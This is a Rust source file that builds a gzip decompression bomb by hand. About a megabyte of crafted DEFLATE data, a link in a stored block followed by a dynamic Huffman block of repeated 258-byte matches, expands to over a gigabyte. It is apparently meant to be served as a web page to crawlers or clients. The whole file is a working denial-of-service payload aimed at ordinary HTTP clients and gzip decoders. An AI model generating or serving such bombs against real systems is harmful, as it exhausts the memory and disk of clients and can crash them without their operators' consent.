//! A page of a megabyte that wants to be a gigabyte, made by hand.
//!
//! Not a compressor. Invariant: it is well-formed up to its end, where the checksum is missing; whoever reads that far
//! has decompressed a gigabyte.

/// About 1 MB of gzip (RFC 1951, RFC 1952) for a page of more than 1 GB: a link in a stored block, then one space and
/// four million times *the last byte 258 times more*, in a Huffman code that spends one bit each on length and distance.
pub fn gzip_bomb() -> Vec<u8> {
    let link = b"<a href=/ok/1>1</a>";
    let length = u16::try_from(link.len()).expect("a short link");
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bytes.push(0); // stored block, not the last
    bytes.extend(length.to_le_bytes());
    bytes.extend((!length).to_le_bytes());
    bytes.extend(link);
    bytes.extend(bomb_header());
    // Every further zero byte is four matches of 258 bytes.
    bytes.resize(bytes.len() + (1 << 20), 0);
    bytes
}

/// The head of a dynamic block. Code lengths: the space 2 bits, end of block 2, *match of 258* 1; distance 1 one bit.
fn bomb_header() -> Vec<u8> {
    let mut bits = Vec::new();
    // Numbers go in with their lowest bit first, Huffman codes with their highest.
    let number = |bits: &mut Vec<bool>, value: u32, count: u32| {
        bits.extend((0..count).map(|n| (value >> n) & 1 == 1));
    };
    let zeros = |bits: &mut Vec<bool>, count: u32| {
        bits.push(false); // code length symbol 18, code 0: 11 to 138 zeros
        number(bits, count - 11, 7);
    };
    let one_bit = |bits: &mut Vec<bool>| bits.extend([true, false]);
    let two_bits = |bits: &mut Vec<bool>| bits.extend([true, true]);

    number(&mut bits, 1, 1); // the last block
    number(&mut bits, 2, 2); // dynamic Huffman codes
    number(&mut bits, 29, 5); // 286 literal and length codes
    number(&mut bits, 0, 5); // 1 distance code
    number(&mut bits, 14, 4); // 18 code length codes, in this order: 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        number(&mut bits, length, 3);
    }
    zeros(&mut bits, 32);
    two_bits(&mut bits); // 32, the space
    zeros(&mut bits, 138);
    zeros(&mut bits, 85);
    two_bits(&mut bits); // 256, end of block
    zeros(&mut bits, 28);
    one_bit(&mut bits); // 285, a match of 258 bytes
    one_bit(&mut bits); // distance 1
    bits.extend([true, false]); // the data: one space
    bits.chunks(8)
        .map(|bits| bits.iter().rev().fold(0, |byte, &bit| (byte << 1) | u8::from(bit)))
        // chunks() may end with fewer than 8 bits: what is missing is zeros, the beginning of the first match
        .collect()
}
